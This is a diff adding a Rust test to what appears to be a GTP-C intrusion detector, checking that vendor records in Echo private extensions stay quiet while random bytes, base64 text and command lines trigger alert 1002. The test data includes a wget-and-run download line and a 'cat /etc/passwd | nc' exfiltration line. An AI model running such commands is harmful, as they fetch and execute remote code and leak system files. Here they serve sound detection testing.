@@ -704,6 +704,69 @@ fn vendor_text_in_echo_private_extensions() {
     }
 }
 
+/// A vendor's record in an Echo's private extension — text fields (a product and release, a
+/// clock in digits) with a few octets of tags, lengths and counters between them — is no
+/// payload either, on its first Echo too (GTPv1 and GTPv2). Random octets of the same
+/// lengths, a record whose text field is base64, and a command line in plain text are.
+#[test]
+fn vendor_records_in_echo_private_extensions() {
+    let echo = |i: u32, enterprise: u16, value: &[u8]| {
+        let v2 = echo_request_v2(
+            i,
+            vec![v2_recovery(3), v2_private_extension(enterprise, value)],
+        );
+        let mut pe = enterprise.to_be_bytes().to_vec();
+        pe.extend_from_slice(value);
+        let v1 = gtp_v1(
+            1,
+            0,
+            Some(i as u16),
+            vec![v1_ie(14, vec![3]), v1_ie(255, pe)],
+        );
+        [v2, v1]
+    };
+    let tlv = |counter: u32, clock: &[u8]| {
+        let mut v = vec![0x01, 0x04];
+        v.extend_from_slice(&counter.to_be_bytes());
+        v.push(0x02);
+        v.push(clock.len() as u8);
+        v.extend_from_slice(clock);
+        v
+    };
+    let quiet: Vec<(u16, Vec<u8>)> = vec![
+        (193, b"ZXUN-uMAC V7.23.10\x00\x01".to_vec()),
+        (193, b"ZXUN-xGW V7.23.10\x00\x02".to_vec()),
+        (11, tlv(0x0036_2f7a, b"1767873610")),
+        (2011, tlv(7, b"20261205T101500Z")),
+        (
+            9,
+            [
+                b"\x10\x0bPGW-SIN-04\x11\x06".as_slice(),
+                b"R21.28\x12\x02\x00\x07",
+            ]
+            .concat(),
+        ),
+    ];
+    for (i, (enterprise, value)) in quiet.iter().enumerate() {
+        for p in echo(i as u32, *enterprise, value) {
+            let got = ids(&run(no_policy(), &[gtpc_frame(1.0, PGW, SGW, &p)]));
+            assert!(!got.contains(&1002), "{i}: {value:02x?}: {got:?}");
+        }
+    }
+    let mut loud: Vec<Vec<u8>> = (0..6u32)
+        .map(|k| noise(1200 + k, 18 + 4 * k as usize))
+        .collect();
+    loud.push(tlv(9, b"Q2hlY2sgaW4gc3RhdHVzOiBhbGwgc3lzdGVtcyBnbw=="));
+    loud.push(b"cd /tmp; wget http://198.51.100.7/a; sh a".to_vec());
+    loud.push([b"\x01\x1f".as_slice(), b"cat /etc/passwd | nc 10.9.8.7 53"].concat());
+    for (i, value) in loud.iter().enumerate() {
+        for p in echo(100 + i as u32, 2011, value) {
+            let got = ids(&run(no_policy(), &[gtpc_frame(1.0, PGW, SGW, &p)]));
+            assert!(got.contains(&1002), "{i}: {value:02x?}: {got:?}");
+        }
+    }
+}
+
 /// A node's keepalives that all carry one large private extension — the same binary value,
 /// or a vendor TLV whose counter and clock move — raise 1002 once, when it is new, not on
 /// every Echo (GTPv1 and GTPv2); a value that changes whole from Echo to Echo is reported
